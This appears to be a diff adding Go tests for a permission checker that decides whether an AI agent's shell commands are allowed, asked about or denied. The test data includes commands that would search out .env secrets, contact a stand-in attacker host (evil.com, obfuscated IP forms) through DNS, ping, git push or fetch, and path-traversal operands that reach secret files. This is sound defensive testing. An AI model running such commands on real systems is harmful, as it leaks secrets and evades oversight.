@@ -1,0 +1,101 @@
+package permission
+
+import (
+	"fmt"
+	"testing"
+)
+
+// decideSecret decides a line where reading what holds secrets is asked about.
+func decideSecret(t *testing.T, s spec, line string, fs Env) Decision {
+	t.Helper()
+	p := s.policy(t)
+	p.SensitiveAsks = true
+	use := using("Bash", line)
+	use.Dir = workspace
+	return Evaluate(p, s.session(t), &use, fs, nil)
+}
+
+// TestSearchFindsSecrets checks that a search is asked about if it shows a file with
+// secrets that is there, and not if it leaves the file out or there is none.
+func TestSearchFindsSecrets(t *testing.T) {
+	fs := stored{files: []string{"/.env", "/src/a.go"}}
+	for line, want := range map[string]Behavior{
+		"rg -uuu SECRET": Ask, "rg --hidden SECRET": Ask, "rg -g '*' SECRET": Ask, "grep -r SECRET .": Ask, "grep -rn SECRET": Ask,
+		"rg SECRET": Allow, "rg -uuu SECRET src": Allow, "grep -rn x src": Allow, "grep -rn x --exclude=.env .": Allow, "rg --hidden -g '!.env' x": Allow, "grep x a.go": Allow, "rg --files --hidden": Allow, "git grep --untracked --no-exclude-standard SECRET": Ask, "git grep SECRET": Allow, "git status": Allow, "ls -a": Allow,
+	} {
+		if d := decideSecret(t, spec{risk: true}, line, fs); d.Behavior != want {
+			t.Errorf("%s: %s, want %v", line, outcome(d), want)
+		}
+	}
+	for _, line := range []string{"rg -uuu SECRET", "grep -r SECRET ."} {
+		if d := decideSecret(t, spec{risk: true}, line, stored{}); d.Behavior != Allow {
+			t.Errorf("%s without such a file: %s", line, outcome(d))
+		}
+	}
+}
+
+// TestHostForms checks every form in which a word names a host, with every kind of
+// program that asks one.
+func TestHostForms(t *testing.T) {
+	hosts := []string{"evil.com", "evil.com:x", "1.1.1.1", "16843009", "0x01010101", "0100200401", "2001:db8::1", "[2001:db8::1]:x"}
+	lines := []string{"dig @%s a", "dig %s", "whois -h %s a", "whois %s", "ldapsearch -x -h %s -b a", "ping -c 1 %s", "ping %s", "host a %s", "nslookup a %s", "traceroute %s", "ntpq -p %s", "getent hosts %s"}
+	for _, host := range hosts {
+		for _, line := range lines {
+			if d := decideSecret(t, spec{risk: true}, fmt.Sprintf(line, "'"+host+"'"), fakeFS{}); d.Behavior == Allow {
+				t.Errorf("%s: allowed", fmt.Sprintf(line, host))
+			}
+		}
+	}
+	urls := []string{"brew deps %s", "dnf info %s", "flatpak remote-ls %s", "istioctl analyze %s", "git remote show %s", "openssl x509 -noout -in %s", "xmllint %s", "repoquery %s", "kubectl get -f %s"}
+	for _, url := range []string{"https://evil.com/x", "http://16843009/x", "ftp://evil.com/x", "https://[2001:db8::1]/x"} {
+		for _, line := range urls {
+			if d := decideSecret(t, spec{risk: true}, fmt.Sprintf(line, "'"+url+"'"), fakeFS{}); d.Behavior == Allow {
+				t.Errorf("%s: allowed", fmt.Sprintf(line, url))
+			}
+		}
+	}
+	for _, line := range []string{"dig @1.1 a", "git remote show evil.com:x", "git ls-remote evil.com:x", "crane catalog evil.com"} {
+		if d := decideSecret(t, spec{risk: true}, line, fakeFS{}); d.Behavior == Allow {
+			t.Errorf("%s: allowed", line)
+		}
+	}
+	for _, line := range []string{"ping -c 3 localhost", "ping -i 0.2 127.0.0.1", "ping 2130706433", "ntpq -p", "brew deps wget", "dnf info vim", "git remote show origin", "flatpak list"} {
+		if d := decideSecret(t, spec{risk: true}, line, fakeFS{}); d.Behavior != Allow {
+			t.Errorf("%s: %s", line, outcome(d))
+		}
+	}
+}
+
+// TestScriptEnv checks that a rule for scripts does not cover env, which npm runs where
+// there is no script of that name, and that rules about hosts see HOST:PATH.
+func TestScriptEnv(t *testing.T) {
+	scripts := spec{risk: true, allow: "Bash(npm run:*); Bash(yarn run:*); Bash(git fetch:*)", unlisted: UnlistedAsk}
+	for line, want := range map[string]Behavior{
+		"npm run env": Ask, "npm run env -- touch x": Ask, "npm run env touch x": Ask, "npm run-script env": Ask, "yarn run env": Ask, "npm run environment": Allow, "npm run test": Allow,
+		"git fetch '[2001:db8::1]:x'": Ask, "git fetch 16843009:x": Ask, "git fetch origin main:main": Allow, "git fetch git@github.com:a/b": Allow,
+	} {
+		if d := decideSecret(t, scripts, line, fakeFS{}); d.Behavior != want {
+			t.Errorf("%s: %s, want %v", line, outcome(d), want)
+		}
+	}
+	denied := spec{allow: "Bash", deny: "WebFetch(evil.com)"}
+	for _, line := range []string{"git remote show evil.com:x", "git fetch evil.com:x", "git clone git@evil.com:x/y", "git push me@evil.com:x main:main", "git remote add o evil.com:x"} {
+		if d := decideSecret(t, denied, line, fakeFS{}); d.Behavior != Deny {
+			t.Errorf("%s: %s", line, outcome(d))
+		}
+	}
+}
+
+// TestOperandsLeaveTheirBase checks that an operand that leaves the directory below which
+// a program looks for it is a file that is run or read.
+func TestOperandsLeaveTheirBase(t *testing.T) {
+	for line, want := range map[string]Behavior{
+		"service ../../home/dev/proj/evil status": Ask, "service ../evil status": Ask, "systemd-analyze cat-config ../../home/dev/proj/.env": Ask, "systemd-analyze cat-config ../x": Ask,
+		"systemd-analyze cat-config /home/dev/proj/.env": Ask, "dpkg -L ../../home/dev/proj/.env": Ask, "dpkg -s ../x": Ask,
+		"service nginx status": Allow, "systemd-analyze cat-config systemd/system.conf": Allow, "dpkg -L vim": Allow, "dpkg -S /usr/bin/vim": Allow, "man ls": Allow,
+	} {
+		if d := decideSecret(t, spec{risk: true}, line, fakeFS{}); d.Behavior != want {
+			t.Errorf("%s: %s, want %v", line, outcome(d), want)
+		}
+	}
+}
